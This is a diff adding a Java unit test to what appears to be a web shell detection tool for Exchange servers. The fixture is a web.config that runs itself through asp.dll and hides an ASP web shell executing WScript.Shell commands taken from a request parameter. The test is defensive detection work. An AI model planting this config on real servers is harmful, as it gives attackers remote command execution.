@@ -89,6 +89,18 @@ class ExchangeWrittenShellRulesTest {
         assertThat(rulesMatching(config)).isEmpty();
     }
 
+    @Test
+    void aWebConfigThatRunsItselfThroughAspDllAndCarriesCodeIsFound() {
+        String config = "<configuration><system.webServer><handlers accessPolicy=\"Read, Script, Write\">\r\n"
+                + "<add name=\"web_config\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" "
+                + "scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" resourceType=\"Unspecified\" />\r\n"
+                + "</handlers></system.webServer></configuration>\r\n"
+                + "<!-- <% Response.Write(CreateObject(\"WScript.Shell\").Exec(Request(\"c\")).StdOut.ReadAll()) %> -->\r\n";
+
+        assertThat(rulesMatching(config)).contains("exhunt_exchange_web_config_runs_script");
+        assertThat(rulesMatching(config.substring(0, config.indexOf("<!--")))).isEmpty();
+    }
+
     /** "!BDN", then the rest of a Unicode PST header's first bytes (values do not matter here). */
     private static byte[] pstHeader() {
         byte[] header = new byte[512];
